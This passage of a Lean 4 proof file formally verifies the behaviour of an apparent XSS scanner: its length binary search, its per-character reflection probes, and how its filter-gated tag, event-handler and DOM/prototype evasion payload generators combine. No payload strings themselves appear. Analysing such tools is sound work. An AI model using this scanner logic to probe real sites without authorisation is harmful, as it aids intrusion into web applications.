    simp only [quick_test_length_loop]
    by_cases hlr : left ≤ right
    · simp only [hlr, if_true, hacc, decide_eq_true_eq]
      have hmid1 : left ≤ (left + right) / 2 := by omega
      have hmid2 : (left + right) / 2 ≤ right := by omega
      by_cases hmL : (left + right) / 2 ≤ L
      · rw [if_pos hmL]
        exact ih _ _ (by omega) (by omega) h2
      · rw [if_neg hmL]
        exact ih _ _ (by omega) h1 (by omega)
    · simp only [hlr, if_false]
      omega

/-- If the oracle rejects every value `≥ 10`, the loop starting at
`left ≥ 10` exits with `right = left - 1`. -/
theorem quick_test_length_loop_allfalse (acc : Int → Bool)
    (hacc : ∀ n : Int, 10 ≤ n → acc n = false) :
    ∀ (fuel : Nat) (left right : Int), (right + 1 - left).toNat ≤ fuel →
      10 ≤ left → left ≤ right + 1 → quick_test_length_loop acc fuel left right = left - 1 := by
  intro fuel
  induction fuel with
  | zero =>
    intro left right hfuel h1 h2
    simp only [quick_test_length_loop]
    omega
  | succ fuel ih =>
    intro left right hfuel h1 h2
    simp only [quick_test_length_loop]
    by_cases hlr : left ≤ right
    · simp only [hlr, if_true]
      have hmid1 : left ≤ (left + right) / 2 := by omega
      have hmid2 : (left + right) / 2 ≤ right := by omega
      rw [hacc _ (by omega)]
      simp only [Bool.false_eq_true, if_false]
      exact ih _ _ (by omega) h1 (by omega)
    · simp only [hlr, if_false]
      omega

/-- The fuel of `quick_test_length_loop` is semantically inert: any two fuels
at least the interval length give the same result (each iteration shrinks
`right + 1 - left` by at least one), so fuel `4991` can never be exhausted
when starting from `left = 10, right = 5000`. -/
theorem quick_test_length_loop_fuel_irrel (acc : Int → Bool) :
    ∀ (f1 f2 : Nat) (left right : Int), (right + 1 - left).toNat ≤ f1 →
      (right + 1 - left).toNat ≤ f2 →
      quick_test_length_loop acc f1 left right =
        quick_test_length_loop acc f2 left right := by
  intro f1
  induction f1 with
  | zero =>
    intro f2 left right h1 h2
    have hlr : ¬(left ≤ right) := by omega
    cases f2 with
    | zero => rfl
    | succ f2 =>
      simp only [quick_test_length_loop, hlr, if_false]
  | succ f1 ih =>
    intro f2 left right h1 h2
    by_cases hlr : left ≤ right
    · cases f2 with
      | zero => omega
      | succ f2 =>
        simp only [quick_test_length_loop, hlr, if_true]
        have hmid1 : left ≤ (left + right) / 2 := by omega
        have hmid2 : (left + right) / 2 ≤ right := by omega
        by_cases hacc : acc ((left + right) / 2) = true
        · rw [hacc]
          simp only [if_true]
          exact ih f2 _ _ (by omega) (by omega)
        · rw [Bool.not_eq_true] at hacc
          rw [hacc]
          simp only [Bool.false_eq_true, if_false]
          exact ih f2 _ _ (by omega) (by omega)
    · cases f2 with
      | zero => simp only [quick_test_length_loop, hlr, if_false]
      | succ f2 => simp only [quick_test_length_loop, hlr, if_false]

/-! ### Structure of the payload generators -/

/-- Each gated selection of `eventPayloads` is one of the three
`eventShapes`. -/
theorem eventPayloads_subset_eventShapes (a : ParamAnalysis) (tag ev : String)
    (p : String) (hp : p ∈ eventPayloads a tag ev) : p ∈ eventShapes tag ev := by
  unfold eventPayloads at hp
  rw [List.mem_append, List.mem_append] at hp
  unfold eventShapes
  rcases hp with (hp | hp) | hp <;> rw [mem_guard] at hp <;>
    simp only [List.mem_singleton] at * <;> simp [hp.2]

/-- Decomposition of the dynamic generator's output: every emitted payload is
either a tag/function shape whose tag, mutation and function name passed the
per-character gate, an event-attribute shape whose tag and event variant
passed the per-character gate, or a DOM/prototype evasion that passed the
whole-string gate. -/
theorem generate_dynamic_payloads_decomp (a : ParamAnalysis) (p : String)
    (hp : p ∈ generate_dynamic_payloads a) :
    (∃ tag mt func, tag ∈ base_tags ∧ mt ∈ tag_mutations tag ∧ func ∈ js_functions ∧
      allAllowed a tag = true ∧ allAllowed a mt = true ∧ allAllowed a func = true ∧
      (p ∈ commentPayloads mt func ∨ p ∈ nullPayloads tag func)) ∨
    (∃ tag event ev, tag ∈ event_tags ∧ event ∈ event_handlers ∧
      ev ∈ event_mutations event ∧ allAllowed a tag = true ∧ allAllowed a ev = true ∧
      p ∈ eventPayloads a tag ev) ∨
    ((p ∈ dom_evasions ∨ p ∈ proto_evasions) ∧ allAllowed a p = true) := by
  unfold generate_dynamic_payloads at hp
  rw [List.mem_append, List.mem_append] at hp
  rcases hp with (hp | hp) | hp
  · rw [mem_guard] at hp
    have hp' := hp.2
    rw [List.mem_append] at hp'
    rcases hp' with hp' | hp'
    · left
      unfold tagContentBlock at hp'
      rw [List.mem_flatMap] at hp'
      obtain ⟨tag, htag, hp'⟩ := hp'
      rw [mem_guard] at hp'
      obtain ⟨htagAll, hp'⟩ := hp'
      rw [List.mem_flatMap] at hp'
      obtain ⟨mt, hmt, hp'⟩ := hp'
      rw [mem_guard] at hp'
      obtain ⟨hmtAll, hp'⟩ := hp'
      rw [List.mem_append] at hp'
      rcases hp' with hp' | hp'
      · rw [mem_guard] at hp'
        obtain ⟨-, hp'⟩ := hp'
        rw [List.mem_flatMap] at hp'
        obtain ⟨func, hfunc, hp'⟩ := hp'
        rw [mem_guard] at hp'
        exact ⟨tag, mt, func, htag, hmt, hfunc, htagAll, hmtAll, hp'.1, Or.inl hp'.2⟩
      · rw [mem_guard] at hp'
        obtain ⟨-, hp'⟩ := hp'
        rw [List.mem_flatMap] at hp'
        obtain ⟨func, hfunc, hp'⟩ := hp'
        rw [mem_guard] at hp'
        exact ⟨tag, mt, func, htag, hmt, hfunc, htagAll, hmtAll, hp'.1, Or.inr hp'.2⟩
    · right; left
      unfold eventAttrBlock at hp'
      rw [mem_guard] at hp'
      obtain ⟨-, hp'⟩ := hp'
      rw [List.mem_flatMap] at hp'
      obtain ⟨tag, htag, hp'⟩ := hp'
      rw [mem_guard] at hp'
      obtain ⟨htagAll, hp'⟩ := hp'
      rw [List.mem_flatMap] at hp'
      obtain ⟨event, hevent, hp'⟩ := hp'
      rw [List.mem_flatMap] at hp'
      obtain ⟨ev, hev, hp'⟩ := hp'
      rw [mem_guard] at hp'
      exact ⟨tag, event, ev, htag, hevent, hev, htagAll, hp'.1, hp'.2⟩
  · right; right
    rw [mem_guard] at hp
    have hp' := hp.2
    rw [List.mem_filter] at hp'
    exact ⟨Or.inl hp'.1, hp'.2⟩
  · right; right
    rw [mem_guard] at hp
    have hp' := hp.2
    rw [List.mem_filter] at hp'
    exact ⟨Or.inr hp'.1, hp'.2⟩

/-- Every payload of `generate_payloads` comes from the union of the
predefined and dynamic families (the final filters only remove). -/
theorem generate_payloads_mem_families (a : ParamAnalysis) (p : String)
    (hp : p ∈ generate_payloads a) :
    p ∈ get_predefined_payloads a ++ generate_dynamic_payloads a := by
  unfold generate_payloads at hp
  rw [List.mem_dedup, List.mem_filter] at hp
  have hp' := hp.1
  clear hp
  split at hp'
  · split at hp'
    · exact (List.mem_filter.mp hp').1
    · exact hp'
  · exact hp'

/-- Every predefined payload belongs to one of the four fixed families. -/
theorem get_predefined_payloads_mem (a : ParamAnalysis) (p : String)
    (hp : p ∈ get_predefined_payloads a) :
    p ∈ predefined_script_payloads ∨ p ∈ predefined_script_quote_payloads ∨
      p ∈ angle_blocked_payloads ∨ p ∈ angle_quote_css_payloads := by
  unfold get_predefined_payloads at hp
  rw [List.mem_append, List.mem_append] at hp
  rcases hp with (hp | hp) | hp
  · rw [mem_guard] at hp
    have hp' := hp.2
    rw [List.mem_append] at hp'
    rcases hp' with hp' | hp'
    · exact Or.inl hp'
    · rw [mem_guard] at hp'
      exact Or.inr (Or.inl hp'.2)
  · rw [mem_guard] at hp
    exact Or.inr (Or.inr (Or.inl hp.2))
  · rw [mem_guard] at hp
    exact Or.inr (Or.inr (Or.inr hp.2))

/-- Whatever the profile, every payload of `generate_payloads` is one of the
finitely many strings of `payload_universe`. -/
theorem generate_payloads_mem_universe (a : ParamAnalysis) (p : String)
    (hp : p ∈ generate_payloads a) : p ∈ payload_universe := by
  have hp' := generate_payloads_mem_families a p hp
  rw [List.mem_append] at hp'
  unfold payload_universe
  simp only [List.mem_append]
  rcases hp' with hp' | hp'
  · rcases get_predefined_payloads_mem a p hp' with h | h | h | h <;> tauto
  · rcases generate_dynamic_payloads_decomp a p hp' with
      ⟨tag, mt, func, htag, hmt, hfunc, -, -, -, hshape⟩ |
      ⟨tag, event, ev, htag, hevent, hev, -, -, hshape⟩ | ⟨hfam, -⟩
    · have : p ∈ base_tags.flatMap fun tag =>
          (tag_mutations tag).flatMap fun mt =>
            js_functions.flatMap fun func =>
              commentPayloads mt func ++ nullPayloads tag func := by
        rw [List.mem_flatMap]
        refine ⟨tag, htag, ?_⟩
        rw [List.mem_flatMap]
        refine ⟨mt, hmt, ?_⟩
        rw [List.mem_flatMap]
        refine ⟨func, hfunc, ?_⟩
        rw [List.mem_append]
        exact hshape
      tauto
    · have : p ∈ event_tags.flatMap fun tag =>
          event_handlers.flatMap fun event =>
            (event_mutations event).flatMap fun ev => eventShapes tag ev := by
        rw [List.mem_flatMap]
        refine ⟨tag, htag, ?_⟩
        rw [List.mem_flatMap]
        refine ⟨event, hevent, ?_⟩
        rw [List.mem_flatMap]
        exact ⟨ev, hev, eventPayloads_subset_eventShapes a tag ev p hshape⟩
      tauto
    · tauto

/-! ### Cleanliness of the generated payloads and the output pipeline -/

set_option maxRecDepth 40000 in
/-- Every string either generator can possibly emit is non-empty, free of
embedded `'\n'`/`'\r'`, and has no leading or trailing whitespace. -/
theorem payload_universe_clean :
    ∀ p ∈ payload_universe, cleanChars p.data = true := by decide

theorem cleanChars_not_nil {l : List Char} (h : cleanChars l = true) : l ≠ [] := by
  intro he
  subst he
  simp [cleanChars] at h

theorem pyStripList_of_clean {l : List Char} (h : cleanChars l = true) :
    pyStripList l = l := by
  cases hl : l with
  | nil => exact absurd hl (cleanChars_not_nil h)
  | cons c t =>
    subst hl
    unfold cleanChars at h
    simp only [Bool.and_eq_true] at h
    obtain ⟨⟨⟨-, -⟩, hhead⟩, hlast⟩ := h
    simp only [List.headD_cons, Bool.not_eq_true'] at hhead
    unfold pyStripList
    rw [List.dropWhile_cons, hhead]
    simp only [Bool.false_eq_true, if_false]
    cases hr : (c :: t).reverse with
    | nil => exact absurd (List.reverse_eq_nil_iff.mp hr) (by simp)
    | cons d r =>
      have hlast' : d.isWhitespace = false := by
        rw [hr] at hlast
        simpa using hlast
      rw [List.dropWhile_cons, hlast']
      simp only [Bool.false_eq_true, if_false]
      rw [← hr, List.reverse_reverse]

theorem stripPayload_of_clean {s : String} (h : cleanChars s.data = true) :
    stripPayload s = s := by
  have hall : ∀ x ∈ s.data, x ≠ '\n' ∧ x ≠ '\r' := by
    cases hl : s.data with
    | nil => exact absurd hl (cleanChars_not_nil (hl ▸ h))
    | cons c t =>
      rw [hl] at h
      unfold cleanChars at h
      simp only [Bool.and_eq_true, List.all_eq_true, Bool.not_eq_true',
        beq_eq_false_iff_ne] at h
      exact hl ▸ h.1.1.2
  have h1 : s.data.filter (fun c => c ≠ '\n') = s.data := by
    rw [List.filter_eq_self]
    intro x hx
    simpa using (hall x hx).1
  have h2 : s.data.filter (fun c => c ≠ '\r') = s.data := by
    rw [List.filter_eq_self]
    intro x hx
    simpa using (hall x hx).2
  unfold stripPayload
  rw [h1, h2, pyStripList_of_clean h]

theorem string_ne_empty_of_clean {s : String} (h : cleanChars s.data = true) :
    s ≠ "" := by
  intro he
  subst he
  simp [cleanChars] at h

/-- A map that is the identity on every member is the identity. -/
theorem map_id_of_mem {α : Type} {f : α → α} :
    ∀ {l : List α}, (∀ x ∈ l, f x = x) → l.map f = l
  | [], _ => rfl
  | x :: xs, h => by
    rw [List.map_cons, h x (List.mem_cons_self x xs),
      map_id_of_mem fun y hy => h y (List.mem_cons_of_mem x hy)]

/-! ### The character sweep dict of `analyze_parameter` -/

theorem dictSet_inv {oracle : Char → Bool} {res : List (Char × Bool)}
    (hres : ∀ e ∈ res, e.2 = oracle e.1) (k : Char) :
    ∀ e ∈ dictSet res k (oracle k), e.2 = oracle e.1 := by
  intro e he
  unfold dictSet at he
  split at he
  · rw [List.mem_map] at he
    obtain ⟨e', he', heq⟩ := he
    by_cases hk : (e'.1 == k) = true
    · rw [if_pos hk] at heq
      subst heq
      rfl
    · rw [if_neg hk] at heq
      subst heq
      exact hres e' he'
  · rw [List.mem_append] at he
    rcases he with he | he
    · exact hres e he
    · rw [List.mem_singleton] at he
      subst he
      rfl

theorem dictSet_keys {res : List (Char × Bool)} {k : Char} {v : Bool} (c : Char) :
    (∃ b, (c, b) ∈ dictSet res k v) ↔ (∃ b, (c, b) ∈ res) ∨ c = k := by
  unfold dictSet
  split
  · rename_i hany
    rw [List.any_eq_true] at hany
    obtain ⟨e₀, he₀, hk₀⟩ := hany
    rw [beq_iff_eq] at hk₀
    constructor
    · rintro ⟨b, hb⟩
      rw [List.mem_map] at hb
      obtain ⟨e, he, heq⟩ := hb
      by_cases hk : (e.1 == k) = true
      · rw [if_pos hk] at heq
        injection heq with h1 h2
        exact Or.inr h1.symm
      · rw [if_neg hk] at heq
        left
        exact ⟨b, heq ▸ he⟩
    · rintro (⟨b, hb⟩ | rfl)
      · by_cases hck : c = k
        · subst hck
          refine ⟨v, List.mem_map.mpr ⟨e₀, he₀, ?_⟩⟩
          rw [if_pos (beq_iff_eq.mpr hk₀)]
        · refine ⟨b, List.mem_map.mpr ⟨(c, b), hb, ?_⟩⟩
          rw [if_neg (by simpa using hck)]
      · refine ⟨v, List.mem_map.mpr ⟨e₀, he₀, ?_⟩⟩
        rw [if_pos (beq_iff_eq.mpr hk₀)]
  · constructor
    · rintro ⟨b, hb⟩
      rw [List.mem_append] at hb
      rcases hb with hb | hb
      · exact Or.inl ⟨b, hb⟩
      · rw [List.mem_singleton, Prod.mk.injEq] at hb
        exact Or.inr hb.1
    · rintro (⟨b, hb⟩ | rfl)
      · exact ⟨b, List.mem_append.mpr (Or.inl hb)⟩
      · exact ⟨v, List.mem_append.mpr (Or.inr (List.mem_singleton.mpr rfl))⟩

theorem dictUpdate_inv {oracle : Char → Bool} {batch : List Char} :
    ∀ {res : List (Char × Bool)}, (∀ e ∈ res, e.2 = oracle e.1) →
      ∀ e ∈ dictUpdate res (batch.map fun c => (c, oracle c)), e.2 = oracle e.1 := by
  induction batch with
  | nil =>
    intro res h
    simp only [List.map_nil, dictUpdate, List.foldl_nil]
    exact h
  | cons c cs ih =>
    intro res h
    simp only [dictUpdate, List.map_cons, List.foldl_cons] at *
    exact ih (dictSet_inv h c)

theorem dictUpdate_keys {v : Char → Bool} {batch : List Char} :
    ∀ {res : List (Char × Bool)} (c : Char),
      (∃ b, (c, b) ∈ dictUpdate res (batch.map fun x => (x, v x))) ↔
        (∃ b, (c, b) ∈ res) ∨ c ∈ batch := by
  induction batch with
  | nil => intro res c; simp [dictUpdate]
  | cons x xs ih =>
    intro res c
    simp only [dictUpdate, List.map_cons, List.foldl_cons] at *
    rw [ih, dictSet_keys]
    simp only [List.mem_cons]
    tauto

theorem foldBatches_inv {oracle : Char → Bool} (bs : List (List Char)) :
    ∀ {res : List (Char × Bool)}, (∀ e ∈ res, e.2 = oracle e.1) →
      ∀ e ∈ bs.foldl (fun r batch => dictUpdate r (batch.map fun c => (c, oracle c))) res,
        e.2 = oracle e.1 := by
  induction bs with
  | nil =>
    intro res h
    simp only [List.foldl_nil]
    exact h
  | cons b bs ih =>
    intro res h
    simp only [List.foldl_cons]
    exact ih (dictUpdate_inv h)

theorem foldBatches_keys {oracle : Char → Bool} (bs : List (List Char)) :
    ∀ {res : List (Char × Bool)} (c : Char),
      (∃ x, (c, x) ∈
        bs.foldl (fun r batch => dictUpdate r (batch.map fun ch => (ch, oracle ch))) res) ↔
        (∃ x, (c, x) ∈ res) ∨ c ∈ bs.flatten := by
  induction bs with
  | nil => intro res c; simp
  | cons b bs ih =>
    intro res c
    simp only [List.foldl_cons, List.flatten_cons, List.mem_append]
    rw [ih, dictUpdate_keys]
    tauto

theorem sweepResults_inv (groups : List (String × List Char)) (oracle : Char → Bool) :
    ∀ e ∈ sweepResults groups oracle, e.2 = oracle e.1 := by
  unfold sweepResults
  generalize hres : ([] : List (Char × Bool)) = res
  have hres' : ∀ e ∈ res, e.2 = oracle e.1 := by
    subst hres
    intro e he
    simp at he
  clear hres
  induction groups generalizing res with
  | nil =>
    simp only [List.foldl_nil]
    exact hres'
  | cons g gs ih =>
    simp only [List.foldl_cons]
    exact ih _ (foldBatches_inv _ hres')

theorem sweepResults_keys (groups : List (String × List Char)) (oracle : Char → Bool)
    (c : Char) :
    (∃ x, (c, x) ∈ sweepResults groups oracle) ↔ c ∈ groups.flatMap fun g => g.2 := by
  unfold sweepResults
  have main : ∀ (gs : List (String × List Char)) (res : List (Char × Bool)),
      (∃ x, (c, x) ∈ gs.foldl
        (fun res g => (chunks20 g.2).foldl
          (fun r batch => dictUpdate r (batch.map fun c => (c, oracle c))) res) res) ↔
        (∃ x, (c, x) ∈ res) ∨ c ∈ gs.flatMap fun g => g.2 := by
    intro gs
    induction gs with
    | nil => intro res; simp
    | cons g gs ih =>
      intro res
      simp only [List.foldl_cons, List.flatMap_cons, List.mem_append]
      rw [ih, foldBatches_keys]
      rw [chunks20_flatten]
      tauto
  rw [main]
  simp

theorem mem_filterMap_fst {res : List (Char × Bool)} {f : Char × Bool → Bool} {c : Char} :
    (c ∈ (res.filter f).map fun e => e.1) ↔ ∃ b, (c, b) ∈ res ∧ f (c, b) = true := by
  rw [List.mem_map]
  constructor
  · rintro ⟨e, he, rfl⟩
    rw [List.mem_filter] at he
    exact ⟨e.2, by simpa using he⟩
  · rintro ⟨b, hb, hf⟩
    exact ⟨(c, b), List.mem_filter.mpr ⟨hb, hf⟩, rfl⟩

/-! ### `analyze_url` and the URL loop -/

theorem analyze_url_loop_error (analyzeParam : String → Except Unit ParamAnalysis) :
    ∀ (params : List String) (p : String), p ∈ params →
      analyzeParam p = Except.error () →
      analyze_url_loop analyzeParam params = Except.error () := by
  intro params
  induction params with
  | nil => intro p hp; simp at hp
  | cons q ps ih =>
    intro p hp herr
    rw [List.mem_cons] at hp
    unfold analyze_url_loop
    rcases hp with rfl | hp
    · rw [herr]
    · cases hq : analyzeParam q with
      | error e => rfl
      | ok analysis => rw [ih p hp herr]

theorem analyze_url_of_error (analyzeParam : String → Except Unit ParamAnalysis)
    (params : List String) (p : String) (hp : p ∈ params)
    (herr : analyzeParam p = Except.error ()) :
    analyze_url analyzeParam params = [] := by
  unfold analyze_url
  rw [analyze_url_loop_error analyzeParam params p hp herr]

theorem process_urls_results_mem
    (ap : String → String → Except Unit ParamAnalysis) :
    ∀ (urls : List (String × List String)) (u : String) (ps : List String),
      (u, ps) ∈ urls → analyze_url (ap u) ps ≠ [] →
      (u, analyze_url (ap u) ps) ∈ process_urls_results ap urls := by
  intro urls
  induction urls with
  | nil => intro u ps h; simp at h
  | cons x rest ih =>
    intro u ps hmem hne
    rw [List.mem_cons] at hmem
    obtain ⟨xu, xps⟩ := x
    unfold process_urls_results
    rcases hmem with heq | hmem
    · rw [Prod.mk.injEq] at heq
      obtain ⟨rfl, rfl⟩ := heq
      rw [if_neg (by simpa [List.isEmpty_iff] using hne)]
      exact List.mem_cons_self _ _
    · by_cases he : ((analyze_url (ap xu) xps).isEmpty : Bool) = true
      · rw [if_pos he]
        exact ih u ps hmem hne
      · rw [if_neg he]
        exact List.mem_cons_of_mem _ (ih u ps hmem hne)

theorem analyze_url_loop_payloads (analyzeParam : String → Except Unit ParamAnalysis) :
    ∀ (params : List String) (results : List (String × List String)),
      analyze_url_loop analyzeParam params = Except.ok results →
      ∀ pr ∈ results, ∀ p ∈ pr.2, ∃ a, p ∈ generate_payloads a := by
  intro params
  induction params with
  | nil =>
    intro results h pr hpr
    obtain rfl : ([] : List (String × List String)) = results := by
      simpa [analyze_url_loop] using h
    simp at hpr
  | cons q ps ih =>
    intro results h pr hpr
    unfold analyze_url_loop at h
    cases hq : analyzeParam q with
    | error e => rw [hq] at h; simp at h
    | ok analysis =>
      rw [hq] at h
      cases hrest : analyze_url_loop analyzeParam ps with
      | error e => rw [hrest] at h; simp at h
      | ok rest =>
        rw [hrest] at h
        simp only [Except.ok.injEq] at h
        subst h
        intro p hp
        by_cases he : (generate_payloads analysis).isEmpty
        · rw [if_pos he] at hpr
          exact ih rest hrest pr hpr p hp
        · rw [if_neg he] at hpr
          rw [List.mem_cons] at hpr
          rcases hpr with rfl | hpr
          · exact ⟨analysis, hp⟩
          · exact ih rest hrest pr hpr p hp

/-- Every payload string appearing in an `analyze_url` result is the output
of `generate_payloads` on some profile — the provenance needed to read claim
C9's hypothesis as "accumulated by a run". -/
theorem analyze_url_payloads (analyzeParam : String → Except Unit ParamAnalysis)
    (params : List String) :
    ∀ pr ∈ analyze_url analyzeParam params, ∀ p ∈ pr.2,
      ∃ a, p ∈ generate_payloads a := by
  unfold analyze_url
  cases hloop : analyze_url_loop analyzeParam params with
  | error e => simp
  | ok results => exact analyze_url_loop_payloads analyzeParam params results hloop

/-- Every payload string accumulated over the whole URL loop is the output of
`generate_payloads` on some profile. -/
theorem process_urls_results_payloads
    (ap : String → String → Except Unit ParamAnalysis) :
    ∀ (urls : List (String × List String)),
      ∀ ur ∈ process_urls_results ap urls, ∀ pr ∈ ur.2, ∀ p ∈ pr.2,
        ∃ a, p ∈ generate_payloads a := by
  intro urls
  induction urls with
  | nil => simp [process_urls_results]
  | cons x rest ih =>
    obtain ⟨xu, xps⟩ := x
    intro ur hur
    unfold process_urls_results at hur
    by_cases he : ((analyze_url (ap xu) xps).isEmpty : Bool) = true
    · rw [if_pos he] at hur
      exact ih ur hur
    · rw [if_neg he] at hur
      rw [List.mem_cons] at hur
      rcases hur with rfl | hur
      · exact analyze_url_payloads (ap xu) xps
      · exact ih ur hur

/-! ### The output pipeline on clean inputs -/

theorem final_output_of_clean (ups : List String)
    (hclean : ∀ p ∈ ups, cleanChars p.data = true) :
    final_output ups = List.insertionSort pyStrOrder ups := by
  have hperm : List.Perm (List.insertionSort pyStrOrder ups) ups :=
    List.perm_insertionSort _ _
  have hcleanS : ∀ p ∈ List.insertionSort pyStrOrder ups, cleanChars p.data = true :=
    fun p hp => hclean p (hperm.mem_iff.mp hp)
  have hmap : (List.insertionSort pyStrOrder ups).map stripPayload =
      List.insertionSort pyStrOrder ups :=
    map_id_of_mem fun p hp => stripPayload_of_clean (hcleanS p hp)
  have hout : output_lines ups = List.insertionSort pyStrOrder ups := by
    unfold output_lines
    rw [hmap]
    apply List.filter_eq_self.mpr
    intro p hp
    simpa using string_ne_empty_of_clean (hcleanS p hp)
  unfold final_output remove_empty_lines
  rw [hout]
  apply List.filter_eq_self.mpr
  intro p hp
  rw [pyStripList_of_clean (hcleanS p hp)]
  simpa [List.isEmpty_iff] using cleanChars_not_nil (hcleanS p hp)

/-! ## Claim theorems -/

/-- Claim C1 (counterexample): against a server that answers every probe with
status 200 and body `"ss"`, `quick_test_scripts` and `quick_test_events`
return true although no variant string is reflected verbatim (only the single
character `'s'` reflects doubled): the claim's "reflected verbatim by the
oracle" reading is false, because `test_chars_batch` probes each character of
a variant individually. -/
theorem claim_C1_counterexample :
    quick_test_scripts (serverOracle 200 ['s', 's']) = true ∧
    specQuickTestScripts 200 ['s', 's'] = false ∧
    quick_test_events (serverOracle 200 ['s', 's']) = true ∧
    specQuickTestEvents 200 ['s', 's'] = false := by
  refine ⟨by decide, by decide, by decide, by decide⟩

/-- Claim C1 (amended): `quick_test_scripts` returns true iff some listed
variant contains at least one character that the per-character oracle
reflects (true on the first such variant), `quick_test_events` has the same
semantics over its list, and permuting either variant list never changes the
boolean result — order affects only short-circuiting. -/
theorem claim_C1_amended (oracle : Char → Bool) :
    (quick_test_scripts oracle = true ↔
      ∃ v ∈ script_test_payloads, ∃ c ∈ v.data, oracle c = true) ∧
    (quick_test_events oracle = true ↔
      ∃ v ∈ event_test_payloads, ∃ c ∈ v.data, oracle c = true) ∧
    (∀ l, List.Perm l script_test_payloads →
      (l.any fun v => test_chars_batch oracle v) = quick_test_scripts oracle) ∧
    (∀ l, List.Perm l event_test_payloads →
      (l.any fun v => test_chars_batch oracle v) = quick_test_events oracle) := by
  refine ⟨?_, ?_, ?_, ?_⟩
  · unfold quick_test_scripts
    rw [List.any_eq_true]
    constructor
    · rintro ⟨v, hv, hb⟩
      rw [test_chars_batch_eq_any, List.any_eq_true] at hb
      exact ⟨v, hv, hb⟩
    · rintro ⟨v, hv, c, hc, hoc⟩
      refine ⟨v, hv, ?_⟩
      rw [test_chars_batch_eq_any, List.any_eq_true]
      exact ⟨c, hc, hoc⟩
  · unfold quick_test_events
    rw [List.any_eq_true]
    constructor
    · rintro ⟨v, hv, hb⟩
      rw [test_chars_batch_eq_any, List.any_eq_true] at hb
      exact ⟨v, hv, hb⟩
    · rintro ⟨v, hv, c, hc, hoc⟩
      refine ⟨v, hv, ?_⟩
      rw [test_chars_batch_eq_any, List.any_eq_true]
      exact ⟨c, hc, hoc⟩
  · intro l hl
    unfold quick_test_scripts
    exact perm_any_eq hl
  · intro l hl
    unfold quick_test_events
    exact perm_any_eq hl

/-- Claim C1 (witness): the permutation-invariance part of the amended claim
applied to the reversed script-variant list and a concrete oracle. -/
theorem claim_C1_witness :
    (script_test_payloads.reverse.any fun v =>
      test_chars_batch (serverOracle 200 ['s', 's']) v) =
      quick_test_scripts (serverOracle 200 ['s', 's']) :=
  (claim_C1_amended (serverOracle 200 ['s', 's'])).2.2.1
    script_test_payloads.reverse (List.reverse_perm script_test_payloads)

/-- Claim C2 (counterexample): for the monotonic oracle with boundary
`L = 5 < 10` (accept exactly the lengths `≤ 5`), `quick_test_length` returns
`some 9`, not absent: when every probed length is rejected, `right` bottoms
out at `9`, which is positive, so `return right if right > 0 else None`
returns `9`. -/
theorem claim_C2_counterexample :
    quick_test_length (fun n => decide (n ≤ (5 : Int))) = some 9 ∧
    quick_test_length (fun n => decide (n ≤ (5 : Int))) ≠ none := by
  refine ⟨by decide, by decide⟩

/-- Claim C2 (amended): for every monotonic acceptance oracle with boundary
`L` (accepts exactly the lengths `≤ L`), the binary search over `[10, 5000]`
terminates when `left > right` and returns exactly `L` when
`10 ≤ L ≤ 5000`; when `L < 10` it returns `9` (never absent), because
`right` can never drop below `9`. -/
theorem claim_C2_amended (L : Int) (acc : Int → Bool)
    (hacc : ∀ n : Int, acc n = decide (n ≤ L)) :
    (10 ≤ L → L ≤ 5000 → quick_test_length acc = some L) ∧
    (L < 10 → quick_test_length acc = some 9) := by
  constructor
  · intro h1 h2
    unfold quick_test_length
    rw [quick_test_length_loop_boundary L acc hacc 4991 10 5000 (by norm_num)
      (by omega) h2]
    rw [if_pos (by omega)]
  · intro h1
    unfold quick_test_length
    rw [quick_test_length_loop_allfalse acc
      (fun n hn => by rw [hacc]; simp only [decide_eq_false_iff_not]; omega)
      4991 10 5000 (by norm_num) (by norm_num) (by norm_num)]
    norm_num

/-- Claim C2 (witness): the amended claim at the boundaries `L = 100` (inside
the search range) and `L = 3` (below it). -/
theorem claim_C2_witness :
    quick_test_length (fun n => decide (n ≤ (100 : Int))) = some 100 ∧
    quick_test_length (fun n => decide (n ≤ (3 : Int))) = some 9 :=
  ⟨(claim_C2_amended 100 _ fun _ => rfl).1 (by norm_num) (by norm_num),
   (claim_C2_amended 3 _ fun _ => rfl).2 (by norm_num)⟩

/-- Claim C3: the single-character reflection probe returns true exactly when
the HTTP exchange completed with status exactly 200 and the doubled character
occurs verbatim in the response body; any exception, timeout or non-200
status (the `none` case and the non-200 case of the response model) yields
false, and the probe is a total function — it never raises to its caller. -/
theorem claim_C3 (resp : Option (Nat × List Char)) (char : Char) :
    test_single_char resp char = true ↔
      ∃ body, resp = some (200, body) ∧ [char, char] <:+: body := by
  cases resp with
  | none => simp [test_single_char]
  | some sb =>
    obtain ⟨status, body⟩ := sb
    by_cases hs : status = 200
    · subst hs
      simp [test_single_char, containsSub_iff]
    · simp [test_single_char, hs]

/-- Claim C4 (counterexample): with two parameters `a`, `b` of one URL where
analysing `a` succeeds (with a non-empty payload set) and analysing `b`
raises, `analyze_url` returns the empty result — the unaffected parameter
`a`'s payloads are discarded, because the single `try`/`except` of
`analyze_url` wraps the whole parameter loop and returns `{}`. -/
theorem claim_C4_counterexample :
    analyze_url
      (fun p =>
        if p == "a" then Except.ok (shortCircuitAnalysis "a" "http://u")
        else Except.error ())
      ["a", "b"] = [] ∧
    generate_payloads (shortCircuitAnalysis "a" "http://u") ≠ [] := by
  refine ⟨by decide, by decide⟩

/-- Claim C4 (amended): an error raised while analysing one parameter aborts
and discards the results of *all* parameters of that URL (`analyze_url`
returns the empty mapping); error isolation holds at the URL level instead:
every URL whose own analysis yields a non-empty result keeps exactly that
result in the final accumulation, regardless of failures in other URLs. -/
theorem claim_C4_amended :
    (∀ (analyzeParam : String → Except Unit ParamAnalysis)
      (params : List String) (p : String),
      p ∈ params → analyzeParam p = Except.error () →
      analyze_url analyzeParam params = []) ∧
    (∀ (ap : String → String → Except Unit ParamAnalysis)
      (urls : List (String × List String)) (u : String) (ps : List String),
      (u, ps) ∈ urls → analyze_url (ap u) ps ≠ [] →
      (u, analyze_url (ap u) ps) ∈ process_urls_results ap urls) :=
  ⟨analyze_url_of_error, process_urls_results_mem⟩

/-- Claim C4 (witness): both parts of the amended claim at concrete inputs:
a failing second parameter empties the URL's result, and a URL whose
analysis succeeds keeps its result although the other URL's analysis
fails. -/
theorem claim_C4_witness :
    analyze_url
      (fun p =>
        if p == "a" then Except.ok (shortCircuitAnalysis "a" "http://u")
        else Except.error ())
      ["a", "b"] = [] ∧
    ("u1",
      analyze_url
        ((fun u p =>
          if u == "u1" then Except.ok (shortCircuitAnalysis p u)
          else Except.error ()) "u1") ["x"]) ∈
      process_urls_results
        (fun u p =>
